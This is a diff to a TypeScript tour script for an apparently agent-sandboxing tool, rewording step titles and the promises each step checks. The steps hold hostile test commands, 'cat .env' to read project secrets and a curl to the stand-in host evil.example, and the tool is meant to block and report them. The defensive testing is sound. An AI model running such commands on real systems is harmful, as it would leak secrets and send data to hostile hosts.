@@ -54,7 +54,7 @@ export const TOUR: readonly TourStep[] = [
   {
     title: 'An agent reads the secrets of the project',
     words: ['run', '--', 'cat', '.env'],
-    promise: 'the secret was not read, and that it was tried was seen',
+    promise: 'the secret was not read, and the attempt was reported',
     holds: (_, { text }) => !text.includes(TOUR_KEY) && text.includes('.env is a secret'),
   },
   {
@@ -72,7 +72,7 @@ export const TOUR: readonly TourStep[] = [
   {
     title: 'It sends something to a host that is not allowed',
     words: ['run', '--', 'sh', '-c', 'curl -sS https://evil.example || getent hosts evil.example'],
-    promise: 'nothing left, and the host was named',
+    promise: 'nothing was sent, and the host was named',
     holds: (_, { code, text }) => code !== 0 && text.includes('evil.example'),
   },
   {
@@ -84,7 +84,7 @@ export const TOUR: readonly TourStep[] = [
   {
     title: 'It asks you for the secret, by its file tool: you decide',
     words: null,
-    promise: 'what you answered is what happened',
+    promise: 'your answer was followed',
     holds: (_, { code }) => code === 0,
   },
   {
@@ -94,9 +94,9 @@ export const TOUR: readonly TourStep[] = [
     holds: ({ project }, { code }) => code === 0 && !existsSync(join(project, 'src')),
   },
   {
-    title: 'You take that back',
+    title: 'You undo that',
     words: ['undo', '--last'],
-    promise: 'the code is back, to the byte',
+    promise: 'every byte of the code is back',
     holds: ({ project }) => read(join(project, 'src/sum.sh')) === CODE,
   },
   {
@@ -106,7 +106,7 @@ export const TOUR: readonly TourStep[] = [
     holds: (_, { text }) => text.includes('.env') && text.includes('evil.example'),
   },
   {
-    title: 'And the record is whole',
+    title: 'The record is intact',
     words: ['audit', 'verify'],
     promise: 'no line was changed or cut',
     holds: (_, { code, text }) => code === 0 && /all whole|no damage found/.test(text),
